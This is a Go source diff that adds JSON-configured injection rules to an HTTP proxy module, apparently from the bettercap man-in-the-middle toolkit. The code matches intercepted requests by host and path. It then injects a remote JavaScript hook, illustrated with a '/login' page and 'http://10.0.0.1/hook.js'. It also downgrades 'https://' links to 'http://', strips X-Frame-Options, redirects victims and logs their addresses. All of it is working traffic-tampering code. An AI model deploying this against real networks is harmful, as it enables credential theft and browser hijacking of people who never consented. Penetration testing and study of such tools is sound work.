@@ -0,0 +1,234 @@
+package http_proxy
+
+import (
+	"encoding/json"
+	"fmt"
+	"io/ioutil"
+	"net/http"
+	"regexp"
+	"strconv"
+	"strings"
+
+	"github.com/elazarl/goproxy"
+
+	"github.com/evilsocket/islazy/tui"
+)
+
+// Replacement is a string to replace in the matching bodies.
+type Replacement struct {
+	From string `json:"from"`
+	To   string `json:"to"`
+}
+
+// InjectionRule changes the responses matching its conditions without the
+// need of a proxy script, the rules file is a JSON array of them:
+//
+//	[
+//	  {
+//	    "name": "hook",
+//	    "host": "(^|\\.)example\\.com$",
+//	    "path": "^/login",
+//	    "content_type": "text/html",
+//	    "inject_js": "http://10.0.0.1/hook.js",
+//	    "inject_html": "<div>...</div>",
+//	    "replace": [{ "from": "https://", "to": "http://" }],
+//	    "headers": { "X-Frame-Options": "" },
+//	    "redirect": ""
+//	  }
+//	]
+//
+// Host and path are regular expressions, content_type is matched as a
+// substring of the Content-Type header and any empty condition matches
+// everything. If redirect is set the matching requests are redirected to it
+// and never forwarded, so it can't be combined with the other actions. The
+// javascript is injected before </head> and the HTML before </body>, the
+// headers are set on the response and removed if their value is empty.
+type InjectionRule struct {
+	Name        string            `json:"name"`
+	Host        string            `json:"host"`
+	Path        string            `json:"path"`
+	ContentType string            `json:"content_type"`
+	InjectJS    string            `json:"inject_js"`
+	InjectHTML  string            `json:"inject_html"`
+	Replace     []Replacement     `json:"replace"`
+	Headers     map[string]string `json:"headers"`
+	Redirect    string            `json:"redirect"`
+
+	hostExpr *regexp.Regexp
+	pathExpr *regexp.Regexp
+	jsHook   string
+}
+
+func (r *InjectionRule) compile() (err error) {
+	if r.Host != "" {
+		if r.hostExpr, err = regexp.Compile(r.Host); err != nil {
+			return fmt.Errorf("invalid host expression: %v", err)
+		}
+	}
+	if r.Path != "" {
+		if r.pathExpr, err = regexp.Compile(r.Path); err != nil {
+			return fmt.Errorf("invalid path expression: %v", err)
+		}
+	}
+
+	if r.Redirect != "" {
+		if r.ContentType != "" || r.modifiesBody() || len(r.Headers) > 0 {
+			return fmt.Errorf("redirect can't be combined with other actions or a content type")
+		}
+	} else if !r.modifiesBody() && len(r.Headers) == 0 {
+		return fmt.Errorf("no action specified")
+	}
+
+	if r.InjectJS != "" {
+		if strings.HasPrefix(r.InjectJS, "http://") || strings.HasPrefix(r.InjectJS, "https://") {
+			r.jsHook = fmt.Sprintf("<script src=\"%s\" type=\"text/javascript\"></script>", r.InjectJS)
+		} else if strings.HasPrefix(r.InjectJS, "<script ") {
+			r.jsHook = r.InjectJS
+		} else {
+			r.jsHook = fmt.Sprintf("<script type=\"text/javascript\">%s</script>", r.InjectJS)
+		}
+	}
+
+	return nil
+}
+
+func (r *InjectionRule) String() string {
+	if r.Name != "" {
+		return r.Name
+	}
+	return fmt.Sprintf("host='%s' path='%s' content_type='%s'", r.Host, r.Path, r.ContentType)
+}
+
+func (r *InjectionRule) modifiesBody() bool {
+	return r.InjectJS != "" || r.InjectHTML != "" || len(r.Replace) > 0
+}
+
+func (r *InjectionRule) matchesRequest(req *http.Request) bool {
+	if r.hostExpr != nil && !r.hostExpr.MatchString(strings.ToLower(stripPort(req.Host))) {
+		return false
+	}
+	if r.pathExpr != nil && !r.pathExpr.MatchString(req.URL.Path) {
+		return false
+	}
+	return true
+}
+
+func (r *InjectionRule) matchesResponse(res *http.Response) bool {
+	if !r.matchesRequest(res.Request) {
+		return false
+	}
+	return r.ContentType == "" || strings.Contains(strings.ToLower(res.Header.Get("Content-Type")), strings.ToLower(r.ContentType))
+}
+
+// apply runs the body actions of the rule over body.
+func (r *InjectionRule) apply(body string) string {
+	for _, repl := range r.Replace {
+		if repl.From != "" {
+			body = strings.Replace(body, repl.From, repl.To, -1)
+		}
+	}
+	if r.jsHook != "" && strings.Contains(body, "</head>") {
+		body = strings.Replace(body, "</head>", r.jsHook+"</head>", 1)
+	}
+	if r.InjectHTML != "" && strings.Contains(body, "</body>") {
+		body = strings.Replace(body, "</body>", r.InjectHTML+"</body>", 1)
+	}
+	return body
+}
+
+func InjectionRulesFromFile(filename string) ([]*InjectionRule, error) {
+	raw, err := ioutil.ReadFile(filename)
+	if err != nil {
+		return nil, err
+	}
+
+	rules := make([]*InjectionRule, 0)
+	if err = json.Unmarshal(raw, &rules); err != nil {
+		return nil, fmt.Errorf("%s: %v", filename, err)
+	}
+
+	for i, rule := range rules {
+		if err = rule.compile(); err != nil {
+			return nil, fmt.Errorf("%s: rule %d (%s): %v", filename, i+1, rule, err)
+		}
+	}
+
+	return rules, nil
+}
+
+// applyRedirectRules returns a redirection to the destination of the first
+// redirect rule matching req, if any.
+func (p *HTTPProxy) applyRedirectRules(req *http.Request) *http.Response {
+	for _, rule := range p.rules {
+		// don't redirect to the page being redirected
+		if rule.Redirect != "" && rule.Redirect != req.URL.String() && rule.matchesRequest(req) {
+			p.Info("[%s] redirecting %s to %s for %s",
+				tui.Green(rule.String()),
+				tui.Yellow(req.Host+req.URL.Path),
+				tui.Yellow(rule.Redirect),
+				tui.Bold(stripPort(req.RemoteAddr)))
+
+			res := goproxy.NewResponse(req, "text/plain", http.StatusFound, "")
+			res.Header.Set("Location", rule.Redirect)
+			return res
+		}
+	}
+	return nil
+}
+
+// applyResponseRules runs the actions of every rule matching res.
+func (p *HTTPProxy) applyResponseRules(res *http.Response) {
+	matching := make([]*InjectionRule, 0)
+	for _, rule := range p.rules {
+		if rule.Redirect == "" && rule.matchesResponse(res) {
+			matching = append(matching, rule)
+		}
+	}
+
+	if len(matching) == 0 {
+		return
+	}
+
+	modifiesBody := false
+	for _, rule := range matching {
+		for name, value := range rule.Headers {
+			if value == "" {
+				res.Header.Del(name)
+			} else {
+				res.Header.Set(name, value)
+			}
+		}
+		modifiesBody = modifiesBody || rule.modifiesBody()
+	}
+
+	if !modifiesBody || !hasBody(res.Body) {
+		return
+	} else if enc := res.Header.Get("Content-Encoding"); enc != "" && enc != "identity" {
+		p.Debug("not applying rules to %s, body is %s encoded", res.Request.Host+res.Request.URL.Path, enc)
+		return
+	}
+
+	raw, err := ioutil.ReadAll(res.Body)
+	res.Body.Close()
+	if err != nil {
+		p.Error("error reading body of %s: %v", res.Request.Host+res.Request.URL.Path, err)
+		res.Body = ioutil.NopCloser(strings.NewReader(string(raw)))
+		return
+	}
+
+	body := string(raw)
+	for _, rule := range matching {
+		if rule.modifiesBody() {
+			p.Info("[%s] applied to %s (%d bytes) for %s",
+				tui.Green(rule.String()),
+				tui.Yellow(res.Request.Host+res.Request.URL.Path),
+				len(body),
+				tui.Bold(stripPort(res.Request.RemoteAddr)))
+			body = rule.apply(body)
+		}
+	}
+
+	res.Header.Set("Content-Length", strconv.Itoa(len(body)))
+	res.ContentLength = int64(len(body))
+	res.Body = ioutil.NopCloser(strings.NewReader(body))
+}